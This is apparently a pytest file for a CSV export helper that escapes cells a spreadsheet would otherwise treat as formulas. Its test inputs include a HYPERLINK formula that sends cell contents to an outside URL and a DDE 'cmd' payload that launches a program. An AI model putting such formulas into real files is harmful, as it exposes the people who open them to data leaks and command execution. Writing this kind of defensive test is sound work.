"""What a spreadsheet opens is text, even where it looks like a formula."""

import csv
import io

import pytest

from consult.documents.cells import safe_cell, write_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org?leak="&A1)',
    "+41 22 730 5866",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_looks_like_a_formula_is_marked_as_text(formula: str) -> None:
    assert safe_cell(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "value", ["", "Kenya", "a=b", "'quoted", "1-2", "<b>", " text", 0, -7, None]
)
def test_other_cells_stay_as_they_are(value: str | int | None) -> None:
    assert safe_cell(value) == value


def test_a_file_holds_its_rows_and_no_formula() -> None:
    content = write_csv(["State", "Comments"], [["KEN", '=A1, "b"'], ["CHE", "é\nl"]])
    assert content.startswith(b"\xef\xbb\xbfState,Comments\r\n")
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    assert list(csv.reader(text)) == [
        ["State", "Comments"],
        ["KEN", '\'=A1, "b"'],
        ["CHE", "é\nl"],
    ]
